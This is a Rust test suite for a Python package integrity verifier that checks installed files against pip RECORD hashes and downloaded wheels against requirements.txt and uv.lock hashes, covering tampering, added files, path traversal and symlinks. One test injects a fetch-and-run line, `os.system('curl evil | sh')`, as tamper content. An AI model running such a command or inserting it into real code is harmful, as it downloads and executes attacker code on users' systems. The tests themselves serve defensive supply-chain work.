//! Python: a venv's `site-packages` as pip leaves it, built from two real wheels
//! (`tests/fixtures/python/`) and the `RECORD` files pip wrote for them, and a folder of
//! downloaded wheels checked against `requirements.txt` and `uv.lock` hashes; clean and
//! tampered.

use std::io::Read as _;
use std::path::{Path, PathBuf};

use chainward_integrity::{Options, Outcome, verify};
use chainward_types::{Finding, FindingCode, Hash, HashAlgorithm};
use sha2::Digest as _;

const INICONFIG_WHEEL: &str = "iniconfig-2.0.0-py3-none-any.whl";
const SIX_WHEEL: &str = "six-1.16.0-py2.py3-none-any.whl";
/// PyPI's SHA-256 of the two wheels.
const INICONFIG_SHA256: &str = "b6a85871a79d2e3b22d2d1b94ac2824226a63c6b741c88f7ae975f18b6778374";
const SIX_SHA256: &str = "8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254";
const SITE: &str = "venv/lib/python3.11/site-packages";

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/python")
        .join(name)
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(bytes))
}

fn sha256(hex: &str) -> Hash {
    Hash::from_hex(HashAlgorithm::Sha256, hex).unwrap()
}

/// A RECORD hash: `sha256=<urlsafe base64, no padding>`.
fn record_hash(bytes: &[u8]) -> String {
    use base64::Engine as _;
    format!(
        "sha256={}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(bytes))
    )
}

/// Unpacks a wheel into `site` as an installer does, then replaces its `RECORD` with the
/// one pip wrote (which adds `INSTALLER`, `REQUESTED` and the compiled `.pyc` files).
fn install(site: &Path, wheel: &str, dist_info: &str, record: &str) {
    let mut archive = zip::ZipArchive::new(fs_err::File::open(fixture(wheel)).unwrap()).unwrap();
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i).unwrap();
        let target = site.join(entry.name().unwrap().into_owned());
        fs_err::create_dir_all(target.parent().unwrap()).unwrap();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        fs_err::write(target, bytes).unwrap();
    }
    let record_text = fs_err::read_to_string(fixture(record)).unwrap();
    fs_err::write(site.join(dist_info).join("RECORD"), &record_text).unwrap();
    fs_err::write(site.join(dist_info).join("INSTALLER"), "pip\n").unwrap();
    fs_err::write(site.join(dist_info).join("REQUESTED"), "").unwrap();
    // Compiled files: listed without a hash, content irrelevant.
    for line in record_text.lines() {
        let path = line.split(',').next().unwrap();
        if path.ends_with(".pyc") {
            let target = site.join(path);
            fs_err::create_dir_all(target.parent().unwrap()).unwrap();
            fs_err::write(target, b"\xa7\x0d\x0d\x0a compiled").unwrap();
        }
    }
}

/// `project/venv/lib/python3.11/site-packages` with iniconfig and six installed.
struct Venv {
    _tmp: tempfile::TempDir,
    project: PathBuf,
    site: PathBuf,
}

impl Venv {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let project = tmp.path().join("project");
        let site = project.join(SITE);
        fs_err::create_dir_all(&site).unwrap();
        install(
            &site,
            INICONFIG_WHEEL,
            "iniconfig-2.0.0.dist-info",
            "iniconfig-2.0.0.RECORD",
        );
        install(
            &site,
            SIX_WHEEL,
            "six-1.16.0.dist-info",
            "six-1.16.0.RECORD",
        );
        Self {
            _tmp: tmp,
            project,
            site,
        }
    }

    fn verify(&self) -> Outcome {
        verify_paths(std::slice::from_ref(&self.project), &Options::default())
    }

    /// Appends a row to a distribution's RECORD.
    fn add_record_row(&self, dist_info: &str, row: &str) {
        let path = self.site.join(dist_info).join("RECORD");
        let mut text = fs_err::read_to_string(&path).unwrap();
        text.push_str(row);
        text.push('\n');
        fs_err::write(path, text).unwrap();
    }
}

fn verify_paths(paths: &[PathBuf], options: &Options) -> Outcome {
    let sources =
        chainward_extract::read_sources(paths, &chainward_extract::Options::default()).unwrap();
    for s in &sources {
        assert!(s.result.is_ok(), "{}: {:?}", s.display, s.result);
    }
    verify(&sources, options)
}

fn integrity_findings(outcome: &Outcome) -> impl Iterator<Item = &Finding> {
    outcome.findings.iter().filter(|f| {
        matches!(
            f.code,
            FindingCode::IntegrityMismatch
                | FindingCode::FileModified
                | FindingCode::FileAdded
                | FindingCode::FileMissing
                | FindingCode::NotInLockfile
                | FindingCode::UnsafeArchiveEntry
        )
    })
}

/// `(code, package, file from `project/` or the file name)`, sorted.
fn integrity(outcome: &Outcome) -> Vec<(FindingCode, String, String)> {
    let mut v: Vec<_> = integrity_findings(outcome)
        .map(|f| {
            let file = f
                .evidence
                .as_ref()
                .and_then(|e| e.file.clone())
                .unwrap_or_default();
            let file = match file.find("project/") {
                Some(i) => file[i + "project/".len()..].to_owned(),
                None => file.rsplit('/').next().unwrap_or_default().to_owned(),
            };
            (f.code, f.package.name.clone(), file)
        })
        .collect();
    v.sort();
    v
}

fn at(rel: &str) -> String {
    format!("{SITE}/{rel}")
}

#[test]
fn clean_site_packages_verifies_with_no_findings() {
    let venv = Venv::new();
    let outcome = venv.verify();
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked, vec![]);
    assert_eq!(outcome.stats.packages, 2);
    // iniconfig: 10 hashed rows, six: 7.
    assert_eq!(outcome.stats.files, 17);
}

#[test]
fn detects_modified_installed_file() {
    let venv = Venv::new();
    let path = venv.site.join("iniconfig/_parse.py");
    let mut text = fs_err::read_to_string(&path).unwrap();
    text.push_str("\nimport os; os.system('curl evil | sh')\n");
    fs_err::write(&path, &text).unwrap();
    let outcome = venv.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(
            FindingCode::FileModified,
            "iniconfig".into(),
            at("iniconfig/_parse.py")
        )]
    );
    let evidence = integrity_findings(&outcome)
        .next()
        .unwrap()
        .evidence
        .clone()
        .unwrap();
    // RECORD: iniconfig/_parse.py,sha256=OWGLbmE8GjxcoMWTvnGbck1RoNsTm5bt5ficIRZqWJ8
    assert_eq!(
        evidence.expected,
        Some(sha256(
            "39618b6e613c1a3c5ca0c593be719b724d51a0db139b96ede5f89c21166a589f"
        ))
    );
    assert_eq!(evidence.actual, Some(sha256(&sha256_hex(text.as_bytes()))));
}

#[test]
fn detects_file_added_to_a_package_folder_and_ignores_bytecode() {
    let venv = Venv::new();
    fs_err::write(venv.site.join("iniconfig/_hook.py"), "import evil\n").unwrap();
    fs_err::write(
        venv.site.join("iniconfig-2.0.0.dist-info/entry_points.txt"),
        "[x]\n",
    )
    .unwrap();
    // Bytecode a later import compiled: not reported.
    fs_err::write(
        venv.site
            .join("iniconfig/__pycache__/_hook.cpython-311.pyc"),
        "x",
    )
    .unwrap();
    let outcome = venv.verify();
    assert_eq!(
        integrity(&outcome),
        vec![
            (
                FindingCode::FileAdded,
                "iniconfig".into(),
                at("iniconfig-2.0.0.dist-info/entry_points.txt")
            ),
            (
                FindingCode::FileAdded,
                "iniconfig".into(),
                at("iniconfig/_hook.py")
            ),
        ]
    );
    let added = integrity_findings(&outcome)
        .find(|f| {
            f.evidence
                .as_ref()
                .unwrap()
                .file
                .as_ref()
                .unwrap()
                .ends_with("_hook.py")
        })
        .unwrap();
    assert_eq!(
        added.evidence.as_ref().unwrap().actual,
        Some(sha256(&sha256_hex(b"import evil\n")))
    );
    assert_eq!(outcome.unchecked, vec![]);
}

#[test]
fn detects_missing_installed_file() {
    let venv = Venv::new();
    fs_err::remove_file(venv.site.join("iniconfig/exceptions.py")).unwrap();
    let outcome = venv.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(
            FindingCode::FileMissing,
            "iniconfig".into(),
            at("iniconfig/exceptions.py")
        )]
    );
}

#[test]
fn script_paths_are_checked_inside_the_venv_and_never_followed_outside() {
    let venv = Venv::new();
    let script = b"#!/venv/bin/python\nimport six\n";
    let bin = venv.project.join("venv/bin");
    fs_err::create_dir_all(&bin).unwrap();
    fs_err::write(bin.join("six-tool"), b"#!/venv/bin/python\nimport evil\n").unwrap();
    venv.add_record_row(
        "six-1.16.0.dist-info",
        &format!(
            "../../../bin/six-tool,{},{}",
            record_hash(script),
            script.len()
        ),
    );
    // Leaves the venv: not read, whatever is there.
    venv.add_record_row(
        "six-1.16.0.dist-info",
        &format!("../../../../outside.txt,{},1", record_hash(b"x")),
    );
    let outcome = venv.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(
            FindingCode::FileModified,
            "six".into(),
            "venv/bin/six-tool".into()
        )]
    );
    assert_eq!(outcome.unchecked.len(), 1, "{:?}", outcome.unchecked);
    assert!(
        outcome.unchecked[0]
            .path
            .ends_with("six-1.16.0.dist-info/RECORD")
    );
    assert!(outcome.unchecked[0].message.contains("1 file(s)"));
}

#[cfg(unix)]
#[test]
fn symlink_leaving_the_venv_is_not_followed() {
    let venv = Venv::new();
    let outside = venv._tmp.path().join("outside.py");
    fs_err::write(&outside, fs_err::read(venv.site.join("six.py")).unwrap()).unwrap();
    fs_err::remove_file(venv.site.join("six.py")).unwrap();
    std::os::unix::fs::symlink(&outside, venv.site.join("six.py")).unwrap();
    let outcome = venv.verify();
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked.len(), 1, "{:?}", outcome.unchecked);
    assert!(outcome.unchecked[0].message.contains("outside"));
}

#[test]
fn distribution_without_record_is_unchecked() {
    let venv = Venv::new();
    fs_err::remove_file(venv.site.join("six-1.16.0.dist-info/RECORD")).unwrap();
    let outcome = venv.verify();
    assert_eq!(integrity(&outcome), vec![]);
    let mut messages: Vec<_> = outcome
        .unchecked
        .iter()
        .map(|u| {
            (
                u.path.rsplit("project/").next().unwrap().to_owned(),
                u.message.clone(),
            )
        })
        .collect();
    messages.sort();
    assert_eq!(messages.len(), 2, "{messages:?}");
    // Its files cannot be checked, and added files cannot be told from its own.
    assert_eq!(messages[0].0, SITE);
    assert!(messages[0].1.contains("added files were not looked for"));
    assert_eq!(messages[1].0, at("six-1.16.0.dist-info/RECORD"));
}

/// A `project/` with `requirements` and a `wheels/` folder holding both real wheels.
struct Wheelhouse {
    _tmp: tempfile::TempDir,
    project: PathBuf,
    wheels: PathBuf,
}

impl Wheelhouse {
    fn new(lock_name: &str, lock: &str) -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let project = tmp.path().join("project");
        let wheels = tmp.path().join("wheels");
        fs_err::create_dir_all(&project).unwrap();
        fs_err::create_dir_all(&wheels).unwrap();
        fs_err::write(project.join(lock_name), lock).unwrap();
        for w in [INICONFIG_WHEEL, SIX_WHEEL] {
            fs_err::copy(fixture(w), wheels.join(w)).unwrap();
        }
        fs_err::write(wheels.join("notes.txt"), "not a dist\n").unwrap();
        Self {
            _tmp: tmp,
            project,
            wheels,
        }
    }

    fn verify(&self) -> Outcome {
        verify_paths(
            std::slice::from_ref(&self.project),
            &Options {
                dist_dirs: vec![self.wheels.clone()],
                ..Options::default()
            },
        )
    }
}

#[test]
fn wheels_matching_requirements_hashes_verify_with_no_findings() {
    // Several allowed hashes per requirement: any one matching is enough.
    let other = "0".repeat(64);
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!(
            "iniconfig==2.0.0 \\\n    --hash=sha256:{other} \\\n    --hash=sha256:{INICONFIG_SHA256}\nsix==1.16.0 --hash=sha256:{SIX_SHA256}\n"
        ),
    );
    let outcome = house.verify();
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked, vec![]);
    assert_eq!(outcome.stats.packages, 2);
    assert_eq!(outcome.stats.archives, 2);
}

#[test]
fn wheel_not_matching_requirements_hash_is_integrity_mismatch() {
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!(
            "iniconfig==2.0.0 --hash=sha256:{SIX_SHA256}\nsix==1.16.0 --hash=sha256:{SIX_SHA256}\n"
        ),
    );
    let outcome = house.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(
            FindingCode::IntegrityMismatch,
            "iniconfig".into(),
            INICONFIG_WHEEL.into()
        )]
    );
    let evidence = integrity_findings(&outcome)
        .next()
        .unwrap()
        .evidence
        .clone()
        .unwrap();
    assert_eq!(evidence.expected, Some(sha256(SIX_SHA256)));
    assert_eq!(evidence.actual, Some(sha256(INICONFIG_SHA256)));
}

#[test]
fn wheel_not_in_lockfile_is_reported() {
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!("iniconfig==2.0.0 --hash=sha256:{INICONFIG_SHA256}\n"),
    );
    let outcome = house.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(FindingCode::NotInLockfile, "six".into(), SIX_WHEEL.into())]
    );
}

#[test]
fn wheelhouse_shared_by_two_requirements_files_reports_only_what_neither_locks() {
    // prod locks iniconfig, dev locks six: together they cover the wheelhouse.
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!("iniconfig==2.0.0 --hash=sha256:{INICONFIG_SHA256}\n"),
    );
    let dev = house.project.join("dev");
    fs_err::create_dir_all(&dev).unwrap();
    fs_err::write(
        dev.join("requirements.txt"),
        format!("six==1.16.0 --hash=sha256:{SIX_SHA256}\n"),
    )
    .unwrap();
    let outcome = house.verify();
    assert_eq!(integrity(&outcome), vec![]);
    // Without the dev file, six is reported again.
    fs_err::remove_file(dev.join("requirements.txt")).unwrap();
    let outcome = house.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(FindingCode::NotInLockfile, "six".into(), SIX_WHEEL.into())]
    );
}

#[test]
fn wheel_of_another_version_than_locked_is_not_in_lockfile() {
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!(
            "iniconfig==2.0.0 --hash=sha256:{INICONFIG_SHA256}\nsix==1.17.0 --hash=sha256:{SIX_SHA256}\n"
        ),
    );
    let outcome = house.verify();
    let finding = integrity_findings(&outcome).next().unwrap();
    assert_eq!(finding.code, FindingCode::NotInLockfile);
    assert!(finding.message.contains("at 1.17.0"), "{}", finding.message);
}

#[test]
fn requirement_without_hashes_leaves_its_wheel_unchecked() {
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!("iniconfig==2.0.0 --hash=sha256:{INICONFIG_SHA256}\nsix==1.16.0\n"),
    );
    let outcome = house.verify();
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked.len(), 1, "{:?}", outcome.unchecked);
    assert!(outcome.unchecked[0].path.ends_with(SIX_WHEEL));
}

#[test]
fn md5_only_hash_leaves_the_wheel_unchecked() {
    let house = Wheelhouse::new(
        "requirements.txt",
        &format!(
            "iniconfig==2.0.0 --hash=sha256:{INICONFIG_SHA256}\nsix==1.16.0 --hash=md5:{}\n",
            "0".repeat(32)
        ),
    );
    let outcome = house.verify();
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked.len(), 1, "{:?}", outcome.unchecked);
    assert!(outcome.unchecked[0].message.contains("md5"));
}

fn uv_lock(iniconfig_wheel_hash: &str) -> String {
    format!(
        r#"version = 1
requires-python = ">=3.10"

[[package]]
name = "iniconfig"
version = "2.0.0"
source = {{ registry = "https://pypi.org/simple" }}
sdist = {{ url = "https://files.pythonhosted.org/packages/d7/4b/cbd8e699e64a6f16ca3a8220661b5f83792b3017d0f79807cb8708d33913/iniconfig-2.0.0.tar.gz", hash = "sha256:{sdist}", size = 4646 }}
wheels = [
    {{ url = "https://files.pythonhosted.org/packages/ef/a6/62565a6e1cf69e10f5727360368e451d4b7f58beeac6173dc9db836a5b46/iniconfig-2.0.0-py3-none-any.whl", hash = "sha256:{iniconfig_wheel_hash}", size = 5892 }},
]

[[package]]
name = "six"
version = "1.16.0"
source = {{ registry = "https://pypi.org/simple" }}
wheels = [
    {{ url = "https://files.pythonhosted.org/packages/d9/5a/e7c31adbe875f2abbb91bd84cf2dc52d792b5a01506781dbcf25c91daf11/six-1.16.0-py2.py3-none-any.whl", hash = "sha256:{SIX_SHA256}", size = 11053 }},
]
"#,
        sdist = "1".repeat(64),
    )
}

#[test]
fn wheels_matching_uv_lock_verify_with_no_findings() {
    let house = Wheelhouse::new("uv.lock", &uv_lock(INICONFIG_SHA256));
    let outcome = house.verify();
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked, vec![]);
    assert_eq!(outcome.stats.packages, 2);
}

#[test]
fn tampered_wheel_is_reported_against_its_own_uv_lock_hash() {
    let house = Wheelhouse::new("uv.lock", &uv_lock(INICONFIG_SHA256));
    let path = house.wheels.join(INICONFIG_WHEEL);
    let mut bytes = fs_err::read(&path).unwrap();
    bytes.extend_from_slice(b"trailing");
    fs_err::write(&path, &bytes).unwrap();
    let outcome = house.verify();
    assert_eq!(
        integrity(&outcome),
        vec![(
            FindingCode::IntegrityMismatch,
            "iniconfig".into(),
            INICONFIG_WHEEL.into()
        )]
    );
    let evidence = integrity_findings(&outcome)
        .next()
        .unwrap()
        .evidence
        .clone()
        .unwrap();
    // The wheel's own hash is the expectation shown, not the sdist's.
    assert_eq!(
        evidence.expected.map(|h| h.hex),
        Some(INICONFIG_SHA256.to_owned())
    );
    assert_eq!(evidence.actual, Some(sha256(&sha256_hex(&bytes))));
}

#[test]
fn no_dist_folders_means_no_dist_checks() {
    let house = Wheelhouse::new("uv.lock", &uv_lock(&"2".repeat(64)));
    let outcome = verify_paths(std::slice::from_ref(&house.project), &Options::default());
    assert_eq!(integrity(&outcome), vec![]);
    assert_eq!(outcome.unchecked, vec![]);
    assert_eq!(outcome.stats.archives, 0);
}

#[test]
fn debian_packages_without_installer_are_unchecked_not_reported() {
    // Debian's python3-* packages: a wheel's dist-info without INSTALLER, files stripped
    // or moved after RECORD was written.
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("usr/lib/python3/dist-packages");
    fs_err::create_dir_all(&site).unwrap();
    install(
        &site,
        SIX_WHEEL,
        "six-1.16.0.dist-info",
        "six-1.16.0.RECORD",
    );
    fs_err::remove_file(site.join("six-1.16.0.dist-info/INSTALLER")).unwrap();
    fs_err::write(site.join("six.py"), "# stripped\n").unwrap();
    let outcome = verify_paths(&[site], &Options::default());
    assert_eq!(integrity(&outcome), vec![]);
    assert!(
        outcome
            .unchecked
            .iter()
            .any(|u| u.path.ends_with("six-1.16.0.dist-info")
                && u.message.contains("system package manager")),
        "{:?}",
        outcome.unchecked
    );
}
